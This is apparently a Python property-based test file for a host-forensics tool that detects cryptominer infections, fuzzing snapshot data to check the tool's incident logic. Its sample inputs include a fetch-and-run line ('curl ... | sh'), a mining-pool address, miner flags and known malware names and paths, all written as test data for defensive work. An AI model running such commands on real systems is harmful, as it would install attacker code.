"""Whatever a host may say of itself, it is judged, and never by an accusation of those who are never actors."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.unit.snapshots import BOOT, TAKEN

from davy.correlate import correlate
from davy.detect import detect, triage
from davy.model.autostarts import Autostart, AutostartKind, Followed, Step
from davy.model.containers import Bind, Container, PublishedPort
from davy.model.facts import (
    PF_KTHREAD,
    Exe,
    Executable,
    Host,
    KnownFile,
    Load,
    Process,
    ProcessDetail,
    ProcessKey,
    Renewal,
    Restart,
    Socket,
    ThreadLoad,
)
from davy.model.incidents import Kind, Role, Verdict
from davy.model.logs import ClockStep, LogHit, LogRead, Shows
from davy.model.services import Listening, ReachedFrom, Service, Setting, SettingSource
from davy.model.snapshot import Snapshot
from davy.model.tools import SystemTool, Tampering

ODD = st.text(st.characters(exclude_categories=()), max_size=12)
"""Any code point: what is no UTF-8, halves of surrogate pairs, terminal escapes, direction marks."""
NAMES = st.one_of(
    st.sampled_from([
        "", "bash", "-bash", "sh", "python3", "cron", "sshd", "systemd", "kinsing", "kdevtmpfsi", "minerd",
        "xmrig", "kworker/0:1", "[kworker/0:1]", "kthreaddi", "a) b (c", "\udcff\udc80", "\ud800", "\x1b[2J\n",
        "tmux: server",
    ]),
    ODD,
)  # fmt: skip
PATHS = st.one_of(
    st.sampled_from([
        "", "/", "//", "/tmp", "/tmp/", "/tmp/abcd", "/tmp/kdevtmpfsi", "/var/tmp/kinsing", "/dev/shm/.x/y",
        "/tmp/bash",
        "/usr/bin/bash", "/usr/bin/python3.11", "/bin/busybox", "/memfd:x", "/memfd:runc_cloned:x", "relative", ".",
        "/home/ada/.x/y", "/tmp/\udcff", "/tmp/\ud800", "/usr/bin/dash", "/opt/x",
    ]),
    ODD,
)  # fmt: skip
WORDS = st.one_of(
    st.sampled_from([
        "-c", "while :; do /tmp/abcd; done", "curl http://203.0.113.9/a.sh | sh", "-o", "stratum+tcp://x:3333", "-m",
        "--donate-level=1", "/tmp/x.py", "", "--", "-",
    ]),
    PATHS, NAMES,
)  # fmt: skip
SECONDS = st.one_of(st.sampled_from([0.0, 0.5, 1.0, 1e9]), st.floats(-1.0, 1e6))
PIDS = st.integers(0, 12)
MAYBE = st.booleans()


@st.composite
def processes(draw: st.DrawFn) -> Process:
    exe = draw(st.none() | PATHS)
    cmdline = tuple(draw(st.lists(WORDS, max_size=4)))
    return Process(
        pid=draw(PIDS),
        start_ticks=draw(st.integers(0, 3)),
        start_time=draw(st.sampled_from([0.0, BOOT, TAKEN - 5, TAKEN, TAKEN + 100])),
        name=draw(NAMES),
        state=draw(st.sampled_from("RSDZXTI?")),
        ppid=draw(PIDS),
        pgrp=1,
        session=draw(st.integers(-1, 3)),
        tty=draw(st.sampled_from([0, 0x8801, -1])),
        flags=draw(st.sampled_from([0, 0, 0, PF_KTHREAD, -1])),
        nice=0,
        threads=draw(st.integers(0, 3)),
        rss_bytes=0,
        cpu_seconds=draw(SECONDS),
        children_cpu_seconds=draw(SECONDS),
        window_cpu_seconds=draw(st.none() | SECONDS),
        window_wait_seconds=draw(st.none() | SECONDS),
        uid=draw(st.none() | st.integers(0, 2)),
        user=draw(st.none() | NAMES),
        audit_session=draw(st.none() | st.integers(0, 2)),
        cmdline=cmdline,
        exe=None if exe is None else Exe(exe, draw(MAYBE), draw(MAYBE)),
        cwd=draw(st.none() | PATHS),
        cgroup=draw(st.none() | st.sampled_from(["/", "", "/a"])),
        script=draw(st.none() | PATHS),
        inline=draw(st.none() | WORDS),
    )


@st.composite
def executables(draw: st.DrawFn) -> Executable:
    return Executable(
        path=draw(PATHS), device=1, inode=draw(st.integers(0, 3)), size=1, mode=0, uid=0, links=draw(st.integers(0, 2)),
        mtime=draw(SECONDS), ctime=0.0, birth=draw(st.none() | SECONDS), sha256=draw(st.none() | st.just("0" * 64)),
        owner_package=draw(st.none() | NAMES), unmodified=draw(st.none() | MAYBE), twin=draw(st.none() | PATHS),
    )  # fmt: skip


@st.composite
def details(draw: st.DrawFn) -> ProcessDetail:
    return ProcessDetail(
        pid=draw(PIDS),
        start_ticks=draw(st.integers(0, 3)),
        executable=draw(st.none() | executables()),
        script=draw(st.none() | executables()),
        folder_mode=draw(st.none() | st.sampled_from([0, 0o1777])),
        thread_loads=tuple(draw(st.lists(st.builds(ThreadLoad, PIDS, NAMES, SECONDS, SECONDS), max_size=2))),
        names=tuple(draw(st.lists(PATHS, max_size=3))),
    )


@st.composite
def entries(draw: st.DrawFn) -> Autostart:
    command = draw(WORDS)
    return Autostart(
        kind=draw(st.sampled_from(AutostartKind)),
        path=draw(PATHS),
        line=draw(st.none() | st.integers(0, 3)),
        text=draw(WORDS),
        command=command,
        user=draw(st.none() | NAMES),
        unit=draw(st.none() | st.sampled_from(["x.service", ""])),
        activates=draw(st.none() | st.sampled_from(["x.service", ""])),
        programs=tuple(draw(st.lists(PATHS, max_size=3))),
        mtime=draw(st.none() | SECONDS),
        owner_package=draw(st.none() | NAMES),
        unmodified=draw(st.none() | MAYBE),
    )


@st.composite
def leads(draw: st.DrawFn) -> Followed:
    path = draw(st.none() | PATHS)
    return Followed(
        autostart=draw(st.sampled_from(["autostart:/a", "autostart:/a:0", "autostart:/tmp/x", "autostart:/tmp/x:1"])),
        step=draw(st.sampled_from(Step)),
        path=path,
        executable=draw(st.none() | executables()) if path else None,
        folder_mode=draw(st.none() | st.sampled_from([0, 0o777])),
        text=draw(st.none() | WORDS),
    )


@st.composite
def tools(draw: st.DrawFn) -> SystemTool:
    return SystemTool(
        path=draw(PATHS), package=draw(NAMES), tampering=draw(st.sampled_from(Tampering)),
        text=draw(st.none() | WORDS), renamed_to=draw(st.none() | PATHS), database=draw(st.sampled_from(["", "dpkg"])),
    )  # fmt: skip


@st.composite
def sockets(draw: st.DrawFn) -> Socket:
    return Socket(
        protocol=draw(st.sampled_from(["tcp", "udp", ""])),
        state=draw(st.sampled_from(["ESTABLISHED", "LISTEN", "SYN_SENT", ""])),
        local_address="",
        local_port=0,
        remote_address=draw(st.sampled_from(["", "8.8.8.8", "101.32.166.253", "fe80::1%eth0", "::", "\udcff"])),
        remote_port=draw(st.sampled_from([0, 443, 3333, 70_000, -1])),
        inode=draw(PIDS),
        uid=0,
        pids=tuple(draw(st.lists(PIDS, max_size=3))),
    )


KINDS = st.sampled_from(["flink", "redis", "ssh", "cron", "docker-api", "unheard of", "", "\udcff"])
TIMES = st.sampled_from([0.0, -1e17, BOOT, TAKEN - 4000, TAKEN - 5, TAKEN, 1e17])
CONTAINERS = st.builds(
    Container,
    runtime=st.sampled_from(["docker", ""]),
    id=st.sampled_from(["a" * 64, "b" * 64, "", "x"]),
    name=NAMES,
    image=st.none() | NAMES,
    created=st.none() | TIMES,
    started=st.none() | TIMES,
    pid=st.none() | PIDS,
    cgroup=st.sampled_from([None, "/", "", "/docker/" + "a" * 64]),
    published=st.lists(
        st.builds(PublishedPort, address=NAMES, port=st.integers(-1, 70_000), container_port=PIDS), max_size=2
    ).map(tuple),
    network_mode=st.none() | st.just("host"),
    privileged=MAYBE,
    binds=st.lists(st.builds(Bind, PATHS, PATHS), max_size=1).map(tuple),
)
SERVICES = st.builds(
    Service,
    kind=KINDS,
    running=MAYBE,
    pid=st.none() | PIDS,
    pids=st.lists(PIDS, max_size=3).map(tuple),
    user=st.none() | NAMES,
    container=st.none() | st.just("a" * 64),
    settings=st.lists(
        st.builds(Setting, name=st.sampled_from(["dir", "x"]), value=PATHS, source=st.sampled_from(SettingSource)),
        max_size=2,
    ).map(tuple),
    listening=st.lists(
        st.builds(
            Listening, address=NAMES, port=st.none() | PIDS, reached_from=st.sampled_from(ReachedFrom), source=NAMES
        ),
        max_size=2,
    ).map(tuple),
    logs=st.lists(PATHS, max_size=2).map(tuple),
)
HITS = st.builds(
    LogHit,
    kind=KINDS,
    sign=st.sampled_from(["program-ran", "program-started", "x", ""]),
    shows=st.sampled_from(Shows),
    path=PATHS,
    time=st.none() | TIMES,
    text=WORDS,
    offset=st.none() | PIDS,
    last_time=st.none() | TIMES,
    count=st.integers(1, 1000),
    address=st.none() | NAMES,
    user=st.none() | NAMES,
    detail=st.none() | WORDS,
)
READS = st.builds(
    LogRead, kind=KINDS, path=PATHS, format=st.just("x"), size=PIDS, first=st.none() | TIMES, last=st.none() | TIMES,
    whole=MAYBE,
)  # fmt: skip

KEYS = st.builds(ProcessKey, PIDS, st.integers(0, 3))
SNAPSHOTS = st.builds(
    Snapshot,
    host=st.builds(Host, name=st.none() | NAMES, boot_time=st.none() | SECONDS),
    taken=st.sampled_from([TAKEN, 0.0]),
    seconds=SECONDS,
    live=MAYBE,
    own_pids=st.lists(PIDS, max_size=2).map(tuple),
    load=st.none() | st.builds(Load, window_seconds=st.sampled_from([1.0, 0.4, 0.0, -1.0]), busy_cores=SECONDS),
    processes=st.lists(processes(), max_size=8, unique_by=lambda process: process.pid).map(tuple),
    details=st.lists(details(), max_size=6).map(tuple),
    renewals=st.lists(
        st.builds(
            Renewal, path=PATHS, pids=st.just((1, 2)), running=PIDS, sightings=PIDS, looks=st.sampled_from([0, 1, 9])
        ),
        max_size=2,
    ).map(tuple),
    restarts=st.lists(st.builds(Restart, KEYS, PATHS), max_size=3).map(tuple),
    sockets=st.lists(sockets(), max_size=3).map(tuple),
    autostarts=st.lists(entries(), max_size=4).map(tuple),
    followed=st.lists(leads(), max_size=4).map(tuple),
    tools=st.lists(tools(), max_size=2).map(tuple),
    containers=st.lists(CONTAINERS, max_size=2).map(tuple),
    services=st.lists(SERVICES, max_size=3).map(tuple),
    log_hits=st.lists(HITS, max_size=5).map(tuple),
    logs_read=st.lists(READS, max_size=3).map(tuple),
    clock_steps=st.lists(st.builds(ClockStep, path=PATHS, before=TIMES, after=TIMES, text=WORDS), max_size=2).map(
        tuple
    ),
    known_files=st.lists(st.builds(KnownFile, PATHS, NAMES, executables()), max_size=2).map(tuple),
)


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(SNAPSHOTS)
def test_any_snapshot_is_judged(snapshot: Snapshot) -> None:
    known = {process.subject: process for process in snapshot.processes}
    named = triage(snapshot)
    assert named.processes <= known.keys()
    findings = list(detect(snapshot))
    judgement = correlate(snapshot, findings)
    seen: list[str] = []
    for incident in judgement.incidents:
        assert incident.verdict is not Verdict.CLEAN
        assert 0.0 <= incident.confidence <= 1.0
        assert incident.actors
        assert incident.summary
        assert len(incident.id) == 8
        assert [event.time for event in incident.timeline] == sorted(event.time for event in incident.timeline)
        sure = [door.confidence for door in (incident.door, *incident.other_doors) if door is not None]
        assert sum(sure) <= 1.01
        assert sure == sorted(sure, reverse=True)
        assert (incident.door is None) is not any(actor.role is Role.DOOR for actor in incident.actors)
        assert (incident.door is None) is bool(incident.keep)
        assert incident.advice
        for actor in incident.actors:
            if actor.kind is not Kind.PROCESS:
                continue
            seen.append(actor.subject)
            process = known[actor.subject]
            assert process.pid != 1
            assert not process.kernel_thread
            assert process.pid not in snapshot.own_pids
            assert actor.role in (Role.MINER, Role.GUARDIAN, Role.DROPPER)
    twice = {subject for subject in seen if seen.count(subject) > 1}
    assert not twice, "one process, two roles or two incidents"
    ranks = [incident.verdict.rank for incident in judgement.incidents]
    assert ranks == sorted(ranks, reverse=True)
    assert judgement.verdict.rank == max(ranks, default=0)
    for one in judgement.considered:
        assert one.findings
        assert one.subject not in seen


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(SNAPSHOTS)
def test_judging_leaves_facts_and_findings_as_they_were(snapshot: Snapshot) -> None:
    findings = list(detect(snapshot))
    before = list(findings)
    first = correlate(snapshot, findings)
    assert findings == before
    assert correlate(snapshot, list(detect(snapshot))) == first
